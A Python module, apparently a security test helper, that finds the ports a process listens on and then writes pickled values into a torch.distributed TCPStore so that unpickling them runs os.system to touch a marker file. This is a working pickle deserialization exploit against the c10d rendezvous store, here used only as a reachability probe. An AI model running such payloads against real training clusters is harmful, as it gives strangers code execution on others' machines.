"""What a run listens on, and what a stranger who reaches it tries: values that run code when they are unpickled."""

from __future__ import annotations

import base64
import os
import pickle
import sys
from contextlib import suppress
from datetime import timedelta
from pathlib import Path

LISTENING = "0A"  # state of a socket in /proc/net/tcp


def listening(pid: int) -> dict[int, set[str]]:
    """Ports on which a process listens, with their addresses in hexadecimal as /proc/net/tcp has them (Linux)."""
    inodes = set()
    with suppress(OSError):
        for link in Path(f"/proc/{pid}/fd").iterdir():
            with suppress(OSError):
                inodes.add(str(link.readlink()).removeprefix("socket:[").removesuffix("]"))
    found: dict[int, set[str]] = {}
    for table in ("tcp", "tcp6"):
        with suppress(OSError):
            for line in Path("/proc/net", table).read_text().splitlines()[1:]:
                fields = line.split()
                if fields[3] == LISTENING and fields[9] in inodes:
                    address, port = fields[1].split(":")
                    found.setdefault(int(port, 16), set()).add(address)
    return found


LOOPBACK = {"0100007F"}  # 127.0.0.1 as /proc/net/tcp writes it on little-endian machines


class _Evil:
    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[object, ...]:
        return os.system, (f"touch '{self.mark}'",)


def attack(address: str, port: int, mark: Path) -> bool:
    """Write values that make ``mark`` when they are unpickled, as torch's ``c10d`` rendezvous does, into the store that
    listens there; False if no store lets us in."""
    from torch.distributed import TCPStore

    evil = pickle.dumps(_Evil(mark))
    try:
        store = TCPStore(address, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=5))
        for value in (base64.b64encode(evil), evil):
            for key in ("torch.rendezvous.yolofleet", "torch.rendezvous.none", "yolofleet/1/evil"):
                store.set(key, value)  # type: ignore[arg-type]  # torch's stub lacks bytes
    except RuntimeError:  # its DistNetworkError among them
        return False
    return True


if __name__ == "__main__":  # MARK; reads lines "ADDRESS PORT", and answers each
    import torch.distributed  # takes seconds: before the first line

    assert torch.distributed.is_available()
    for line in sys.stdin:
        host, number = line.split()
        print("let in" if attack(host, int(number), Path(sys.argv[1])) else "kept out", flush=True)
